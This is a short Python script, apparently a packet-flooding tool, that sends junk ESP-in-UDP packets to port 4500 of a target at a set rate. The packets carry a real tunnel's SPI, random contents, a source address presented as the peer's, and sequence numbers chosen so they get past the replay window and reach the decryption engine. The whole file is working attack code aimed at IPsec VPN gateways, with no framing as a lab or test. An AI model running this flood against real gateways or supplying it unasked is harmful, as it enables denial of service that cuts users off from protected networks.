"""Sends ESP in UDP with a tunnel's SPI and invalid contents, with a spoofed address and port of the
peer.

usage: junk.py SOURCE DESTINATION SPI PACKETS_A_SECOND SECONDS [TRAFFIC_CLASS]
"""

import os
import socket
import struct
import sys
import time

source, destination = sys.argv[1:3]
spi, rate, seconds = int(sys.argv[3]), int(sys.argv[4]), float(sys.argv[5])
raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_UDP)
raw.bind((source, 0))
if len(sys.argv) > 6:
    raw.setsockopt(socket.IPPROTO_IP, socket.IP_TOS, int(sys.argv[6], 0))
body = os.urandom(88)
began, sent = time.monotonic(), 0
while (elapsed := time.monotonic() - began) < seconds:
    while sent < elapsed * rate:
        # High sequence numbers pass the replay window, so that packets reach an engine.
        esp = struct.pack("!II", spi, 0x10000000 + sent) + body
        raw.sendto(struct.pack("!HHHH", 4500, 4500, 8 + len(esp), 0) + esp, (destination, 0))
        sent += 1
    time.sleep(0.002)
print(f"{sent / seconds:.0f} packets/s of junk")
